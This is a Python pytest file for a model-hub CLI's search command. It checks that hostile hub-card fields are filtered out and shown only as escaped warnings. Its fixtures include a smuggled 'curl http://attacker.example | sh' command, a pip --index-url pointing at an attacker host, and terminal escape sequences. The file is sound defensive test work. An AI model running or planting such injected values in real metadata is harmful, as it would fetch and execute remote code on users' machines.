"""``zoo search`` shows text from hub cards only as validated names: shell commands, pip options and
terminal escape sequences in a card never reach the terminal, and the repo is named in an escaped warning."""
from __future__ import annotations

import json

import pytest

from zoo.cli import main

from hub_server import hub_server  # noqa: F401 - a fixture
from test_hub import hf_cache  # noqa: F401 - a fixture


def card(model: str, distribution: str) -> bytes:
    meta = {"library_name": "generative-zoo", "tags": ["generative-zoo", "gan"],
            "zoo_model": model, "zoo_distribution": distribution}
    return ("---\n" + "\n".join(f"{key}: {json.dumps(value)}" for key, value in meta.items()) + "\n---\n# card\n").encode()


HOSTILE = {
    "evil/index-url": ("evil-mnist", "zoo-evil --index-url http://attacker.example/simple"),
    "evil/shell": ("evil-mnist", "zoo-evil; curl http://attacker.example | sh"),
    "evil/ansi-model": ("\x1b[2J\x1b[31mdcgan-mnist", "zoo-evil"),
    "evil/ansi-dist": ("evil-mnist", "zoo-evil\x1b]8;;http://attacker.example\x07"),
}


@pytest.mark.usefixtures("hf_cache")
def test_search_shows_only_validated_names_and_warns_escaped(hub_server, capsys):  # noqa: F811
    hub_server.add_file("good/tiny", "README.md", card("tiny-mnist", "zoo-tiny"))
    for repo, (model, distribution) in HOSTILE.items():
        hub_server.add_file(repo, "README.md", card(model, distribution))

    assert main(["search", "--endpoint", hub_server.url]) == 0
    out, err = capsys.readouterr()
    assert [row.split()[:3] for row in out.splitlines()[1:]] == [["good/tiny", "tiny-mnist", "zoo-tiny"]]
    assert "no: pip install zoo-tiny" in out
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "attacker" not in out and "pip install" not in err
    warnings = err.strip().splitlines()
    assert len(warnings) == len(HOSTILE)
    for repo in HOSTILE:
        assert any(line.startswith("zoo: warning: left out ") and repo in line for line in warnings)
    assert "\\x1b" in err  # the escape is shown, not sent


@pytest.mark.usefixtures("hf_cache")
def test_a_model_list_beyond_the_bound_is_refused_in_one_line(hub_server, capsys, monkeypatch):  # noqa: F811
    for index in range(20):
        hub_server.add_file(f"good/tiny-{index}", "README.md", card("tiny-mnist", "zoo-tiny"))
    monkeypatch.setenv("ZOO_HUB_MAX_MB", "0.001")  # about a kilobyte
    assert main(["search", "--endpoint", hub_server.url]) == 2
    out, err = capsys.readouterr()
    errors = [line for line in err.strip().splitlines() if not line.startswith("zoo: warning: ")]
    assert len(errors) == 1, err  # warnings of the environment may come before it, each on its own line
    [line] = errors
    assert out == "" and line.startswith("zoo search: error: the hub") and "ZOO_HUB_MAX_MB" in line


def test_a_client_that_hangs_up_mid_answer_leaves_the_hub_quiet(hub_server, capsys):  # noqa: F811
    import socket
    import struct
    import time
    from urllib.parse import urlsplit

    for index in range(200):  # a model list of some hundred kilobytes: more than one write of the socket
        hub_server.add_file(f"good/tiny-{index}", "README.md", card("tiny-mnist", "zoo-tiny"))
    address = urlsplit(hub_server.url)
    with socket.create_connection((address.hostname, address.port)) as client:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.sendall(b"GET /api/models?filter=generative-zoo HTTP/1.1\r\nHost: hub\r\n\r\n")
        client.recv(64)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # hang up with a reset
    time.sleep(0.5)  # the server's write fails now
    assert capsys.readouterr().err == ""
